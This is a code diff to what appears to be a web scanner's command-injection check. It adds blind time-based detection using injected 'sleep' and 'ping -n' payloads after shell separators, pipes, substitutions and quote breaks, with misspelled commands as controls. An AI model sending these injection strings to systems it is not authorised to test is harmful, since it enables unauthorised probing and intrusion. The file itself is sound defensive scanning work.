@@ -15,7 +15,8 @@ The payload asks the shell for the product (or sum) of two random numbers betwee
 the words with the product, which stands neither in the payload nor in the page; it must do so again with fresh
 numbers, and the same text without separators and substitution must not be computed. Where no output is shown,
 six or more pairs of `test` commands over random numbers that succeed or fail must be told apart by the page,
-while the same text with an unknown command is not.
+while the same text with an unknown command is not. Where not even that is shown, the shell is asked to sleep for
+random whole seconds in random order: the answers' times lie on that line, those of an unknown command do not.
 """
 
 from collections.abc import AsyncIterator, Callable
@@ -37,6 +38,7 @@ from cyberai.checkkit import (
 from cyberai.checkkit.computed import Ask, Computation, confirm, question
 from cyberai.checkkit.differential import Differential, Hypothesis, similarity
 from cyberai.checkkit.payloads import Product, product, total
+from cyberai.checkkit.timing import Delay, DelayQuestion, delayed
 
 
 class _Way(Struct, frozen=True):
@@ -52,6 +54,14 @@ class _Way(Struct, frozen=True):
 # The first holds every separator once, so that a filter that *drops* one or two does not matter, and repeats
 # itself behind each kind of quote, so that one request serves unquoted and quoted places. The others are for
 # filters that *refuse* a character.
+_SLEEP = ("sleep {d}", "ping -n {n} 127.0.0.1")
+_SLEEQ = ("sleeq {d}", "pinq -n {n} 127.0.0.1")
+_SLEEPS = (
+    ("separators, POSIX shell", "{v};{posix} #';{posix} #\";{posix} #"),
+    ("pipe, POSIX shell", "{v}|{posix} #'|{posix} #\"|{posix} #"),
+    ("substitution, POSIX shell", "{v}$({posix})"),
+    ("separator, Windows shell", '{v}&{windows}&rem "&{windows}&rem '),
+)
 _NEAR = 0.5
 _SYNTAX = "test tesk -lt -gt"
 _WAYS = (
@@ -74,7 +84,7 @@ _WAYS = (
     owasp=("A03:2021",),
     scope=Scope.INSERTION,
     grain=Grain.PARAMETER,
-    max_requests=60,
+    max_requests=74,
     references=(
         "https://owasp.org/www-community/attacks/Command_Injection",
         "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
@@ -97,7 +107,7 @@ async def command_injection(point: InsertionPoint, probe: Probe) -> AsyncIterato
         if proof is not None:
             yield _hit(point, way, proof)
             return
-    hit = await _by_outcome(point, probe, answers[0])
+    hit = await _by_outcome(point, probe, answers[0]) or await _by_time(point, probe, answers)
     if hit is not None:
         yield hit
 
@@ -149,6 +159,38 @@ def _outcome(probe: Probe, value: str, command: str) -> Callable[[bool, int], st
         return f"{value};{line} #';{line} #\";{line} #"
 
     return build
+
+
+async def _by_time(point: InsertionPoint, probe: Probe, answers: list[Exchange]) -> Hit | None:
+    baseline = await probe.baseline(point)
+    usual = max(answer.response.elapsed for answer in (baseline, *answers))
+    for name, pattern in _SLEEPS:
+        question = DelayQuestion(
+            name, _asleep(pattern, point.value, _SLEEP), _asleep(pattern, point.value, _SLEEQ)
+        )
+        delay = await delayed(probe, lambda value: probe.inject(point, value), question, usual)
+        if delay is not None:
+            return _delay_hit(point, delay)
+    return None
+
+
+def _asleep(pattern: str, value: str, commands: tuple[str, str]) -> Callable[[int], str]:
+    def build(seconds: int) -> str:
+        posix, windows = (command.replace("{d}", str(seconds)) for command in commands)
+        windows = windows.replace("{n}", str(seconds + 1))
+        return pattern.replace("{v}", value).replace("{posix}", posix).replace("{windows}", windows)
+
+    return build
+
+
+def _delay_hit(point: InsertionPoint, delay: Delay) -> Hit:
+    return Hit(
+        proof=Proof(Oracle.TIMING, repeats=len(delay.samples), control_silent=True),
+        evidence=(HttpEvidence(delay.late, delay.nonsense, "", delay.told("the shell")),),
+        url=delay.late.request.url,
+        point=point,
+        detail=f"Way in: {delay.name}, told by the time of the answers.",
+    )
 
 
 def _ask(way: _Way, value: str) -> Ask:
